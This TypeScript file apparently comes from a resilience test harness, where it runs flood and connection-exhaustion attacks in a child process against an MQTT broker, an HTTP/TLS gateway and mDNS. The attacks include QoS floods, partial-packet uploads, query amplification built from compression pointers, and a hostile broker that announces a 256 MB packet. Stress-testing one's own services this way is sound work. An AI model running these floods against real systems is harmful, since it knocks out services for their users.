import { createSocket } from 'node:dgram';
import { connect, createServer, type Socket } from 'node:net';
import { argv } from 'node:process';
import { connect as connectTls } from 'node:tls';
import { generate } from 'mqtt-packet';
import type { AttackOptions } from './attack.js';

/** Runs an attack's clients in a separate process. They reconnect when they are disconnected. */
const options = JSON.parse(argv[2] ?? '{}') as AttackOptions;
const { kind, port, host, from, connections = 1 } = options;

const isFilling = kind.startsWith('fill-');
/** Filled servers close the excess connections. Reconnecting at once would be a different attack. */
const REOPEN_MS = isFilling ? 1000 : 50;
const BATCH = 32;
let closed = 0;
let sent = 0;
let opened = 0;

function publish(name: string, payload: string, qos: 0 | 1 | 2, messageId: number): Buffer {
  const topic = `${options.topics ?? 'cart/v1/site1/7'}/${name}`;
  return generate({ cmd: 'publish', topic, payload, qos, messageId, dup: false, retain: false });
}

let headerId = 0;
function state(): string {
  headerId += 1;
  const safetyState = { activeEmergencyStop: 'NONE' };
  return JSON.stringify({ headerId, cartID: 7, gatewayId: 'g', sessionId: 's', driving: false, safetyState });
}

const TEXT = 'x'.repeat(7000);
let messageId = 0;
const nextId = (): number => (messageId = (messageId % 65_000) + 1);
const subscriptions = [{ topic: '#', qos: 0 as const }];
/** The packets of each flood through the broker. */
const PACKETS: Record<string, () => Buffer> = {
  state: () => publish('state', state(), 0, 1),
  sightings: () => publish('sightings', state(), 0, 1),
  subscribe: () => generate({ cmd: 'subscribe', messageId: nextId(), subscriptions }),
  ping: () => generate({ cmd: 'pingreq' }),
  'qos1-unread': () => publish('visualization', TEXT, 1, nextId()),
  'qos2-unreleased': () => publish('visualization', TEXT, 2, nextId()),
  partial: () => publish('visualization', TEXT, 0, 1).subarray(0, 6000),
};

function brokerLogin(nth: number): Buffer {
  const { username, password } = options;
  const login = username === undefined ? {} : { username, password: Buffer.from(password ?? '') };
  const clientId = `attack-${process.pid}-${nth}`;
  return generate({ cmd: 'connect', protocolId: 'MQTT', clean: true, keepalive: 0, clientId, ...login });
}

function floodBroker(packet: () => Buffer, nth: number): void {
  const socket = open(() => floodBroker(packet, nth));
  socket.on('connect', () => {
    socket.write(brokerLogin(nth));
    if (kind === 'qos1-unread') socket.pause();
    else socket.resume();
    if (kind === 'partial') return void socket.write(packet());
    const send = (): void => {
      if (socket.destroyed) return;
      sent += BATCH;
      const hasRoom = socket.write(Buffer.concat(Array.from({ length: BATCH }, packet)));
      if (hasRoom) setImmediate(send);
      else socket.once('drain', send);
    };
    send();
  });
}

function countOpened(): void {
  opened += 1;
  if (opened === connections) process.send?.('running');
}

let attempts = 0;
function open(again: () => void): Socket {
  const localAddress = from?.[attempts % from.length];
  attempts += 1;
  const socket = connect({ port, host, ...(localAddress === undefined ? {} : { localAddress }) });
  socket.on('connect', countOpened);
  socket.on('error', () => undefined);
  socket.on('close', () => {
    closed += 1;
    setTimeout(again, REOPEN_MS).unref();
  });
  return socket;
}

/** Sends all but the last bytes of a floor plan. */
function upload(): void {
  const socket = open(upload);
  const bytes = 7_900_000;
  socket.resume();
  socket.write(
    `PUT /map/plan HTTP/1.1\r\nHost: ${host}:${port}\r\nOrigin: http://${host}:${port}\r\nAccept: application/json\r\n` +
      `Cookie: ${options.cookie}\r\nContent-Type: image/png\r\nContent-Length: ${bytes}\r\n\r\n`,
  );
  socket.write(Buffer.alloc(bytes - 10, 'a'));
}

/** Completes one request or login, and then keeps the connection open without sending anything. */
function fill(nth: number): void {
  const socket = open(() => fill(nth));
  const query = `GET /livez HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`;
  socket.on('connect', () => {
    if (kind === 'fill-broker') socket.write(brokerLogin(nth));
    if (kind === 'fill-http') socket.write(query);
  });
  if (kind !== 'fill-https') return void socket.resume();
  const secured = connectTls({ socket, rejectUnauthorized: false }, () => secured.write(query));
  secured
    .on('error', () => undefined)
    .once('data', countOpened)
    .resume();
}

/** Sends 100 queries a second, each with as many questions as fit. */
function floodMdns(): void {
  const socket = createSocket('udp4');
  const labels = ['_http', '_tcp', 'local'].map((label) => String.fromCharCode(label.length) + label);
  const first = Buffer.concat([Buffer.from(labels.join('')), Buffer.from([0, 0, 12, 0, 1])]);
  // The name of each further question is a pointer to the first name.
  const count = Math.floor(((options.bytes ?? 9000) - 12 - first.length) / 6);
  const header = Buffer.alloc(12);
  header.writeUInt16BE(count + 1, 4);
  const packet = Buffer.concat([
    header,
    first,
    ...Array<Buffer>(count).fill(Buffer.from([0xc0, 0x0c, 0, 12, 0, 1])),
  ]);
  socket.bind(0, host, () => {
    process.send?.('running');
    setInterval(() => {
      sent += 1;
      socket.send(packet, port, host);
    }, 10);
  });
}

/** A broker that announces a packet of 256 MB and sends it as fast as it can. */
function hostileBroker(): void {
  const server = createServer((socket) => {
    opened += 1;
    socket.on('error', () => undefined);
    socket.once('data', () => {
      socket.write(Buffer.from([0x20, 2, 0, 0, 0x30, 0xff, 0xff, 0xff, 0x7f]));
      const send = (): void => {
        while (!socket.destroyed && socket.write(TEXT));
      };
      socket.on('drain', send);
      send();
    });
  });
  server.listen(port, host, () => process.send?.('running'));
}

if (kind === 'mdns') floodMdns();
else if (kind === 'hostile-broker') hostileBroker();
else if (kind === 'upload') for (let nth = 0; nth < connections; nth += 1) upload();
else if (isFilling) {
  // TLS handshakes are slow, and the gateway closes connections whose handshake takes too long.
  const everyMs = kind === 'fill-https' ? 10 : 2;
  for (let nth = 0; nth < connections; nth += 1) setTimeout(fill, nth * everyMs, nth);
} else {
  const packet = PACKETS[kind];
  if (packet) for (let nth = 0; nth < connections; nth += 1) floodBroker(packet, nth);
}
process.on('message', () => process.send?.({ opened, closed, sent }));
process.on('disconnect', () => process.exit());
